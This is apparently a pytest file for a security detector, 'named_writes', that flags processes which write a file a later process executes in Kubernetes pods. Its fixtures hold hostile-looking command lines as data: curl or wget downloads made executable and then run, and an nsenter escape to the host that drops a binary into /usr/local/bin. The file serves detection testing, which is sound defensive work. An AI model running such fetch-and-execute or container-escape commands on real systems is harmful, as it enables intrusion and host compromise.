"""Writes seen by name only: a process names a path, a later process runs it (no file hooks)."""

from __future__ import annotations

import polars as pl

from kernelsec_nb.findings._named import named_writes


def _procs(rows):
    cols = ("exec_id", "parent_exec_id", "pod", "binary", "args", "start_ns", "pid")
    return pl.DataFrame([dict(zip(cols, r, strict=True)) | {"node": "n", "namespace": "a"} for r in rows])


def test_the_fetcher_and_chmod_below_a_shell_are_writers_not_the_shell_nor_the_runner():
    p = _procs([("sh1", "svc", "web", "/bin/sh", "-c curl -sLo /tmp/k https://x/k; chmod +x /tmp/k", 10, 1),
                ("curl", "sh1", "web", "/usr/bin/curl", "-sLo /tmp/k https://x/k", 11, 2),
                ("chmod", "sh1", "web", "/bin/chmod", "+x /tmp/k", 12, 3),
                ("sh2", "svc", "web", "/bin/sh", "-c /tmp/k get pods", 50, 4),
                ("k", "sh2", "web", "/tmp/k", "get pods", 51, 5)])
    assert sorted(named_writes(p)["exec_id"].to_list()) == ["chmod", "curl"]


def test_glued_and_long_options_name_the_path_too():
    p = _procs([("w", None, "web", "/usr/bin/wget", "-O/tmp/a http://x/a", 10, 1),
                ("c", None, "web", "/usr/bin/curl", "--output=/tmp/b http://x/b", 10, 2),
                ("ra", None, "web", "/tmp/a", "", 20, 3), ("rb", None, "web", "/tmp/b", "", 20, 4)])
    assert sorted(named_writes(p).select("exec_id", "path").rows()) == [("c", "/tmp/b"), ("w", "/tmp/a")]


def test_launchers_a_program_already_run_and_another_pod_are_no_writers():
    p = _procs([
        # su-exec execs /bin/sh (same pid) with the arguments that follow the path
        ("su", "init", "db", "/sbin/su-exec", "u /bin/sh -c /opt/r.sh", 10, 7),
        ("shr", "init", "db", "/bin/sh", "-c /opt/r.sh", 11, 7),
        # env starts it with its arguments (another pid, and not its child in this export)
        ("env", "init", "db", "/usr/bin/env", "X=1 /opt/tool --run", 20, 8),
        ("tool", "init", "db", "/opt/tool", "--run", 21, 9),
        # nohup is the runner's parent
        ("nohup", "init", "db", "/usr/bin/nohup", "/opt/bg", 30, 10),
        ("bg", "nohup", "db", "/opt/bg", "", 31, 11),
        # /bin/ls ran before anything named it: it was in the image
        ("ls0", "init", "db", "/bin/ls", "", 1, 12), ("which", "init", "db", "/usr/bin/which", "/bin/ls", 40, 13),
        ("ls1", "init", "db", "/bin/ls", "", 41, 14),
        # named in one pod, run in another
        ("cp", None, "web", "/bin/cp", "/src/x /tmp/x", 10, 15), ("x", None, "other", "/tmp/x", "", 20, 16)])
    assert named_writes(p).height == 0


def test_no_processes_no_writes():
    assert named_writes(pl.DataFrame()).height == 0


def test_a_path_named_below_an_escape_is_the_hosts_and_a_host_run_of_it_counts():
    # nsenter -t 1 -m … bash -c "curl -so /usr/local/bin/h …" in pod ds/x-1; systemd (the host, no pod)
    # runs /usr/local/bin/h later. A pod that did not escape naming the same path writes its own copy.
    rows = [("ns", "shim", "x-1", "/usr/bin/nsenter", "-t 1 -m -- bash -c curl", 10, 1),
            ("bash", "ns", "x-1", "/bin/bash", "-c curl -so /usr/local/bin/h http://y/h", 11, 2),
            ("curl", "bash", "x-1", "/usr/bin/curl", "-so /usr/local/bin/h http://y/h", 12, 3),
            ("other", "shim", "z-1", "/usr/bin/curl", "-so /usr/local/bin/h http://y/h", 13, 4),
            ("svc", "systemd", None, "/usr/local/bin/h", "", 20, 5)]
    p = _procs(rows).with_columns(pl.when(pl.col("pod").is_null()).then(None).otherwise(
        pl.col("namespace")).alias("namespace"))
    assert named_writes(p, ["ns"]).select("exec_id", "pod", "path").rows() == [("curl", "x-1", "/usr/local/bin/h")]
    assert named_writes(p).height == 0
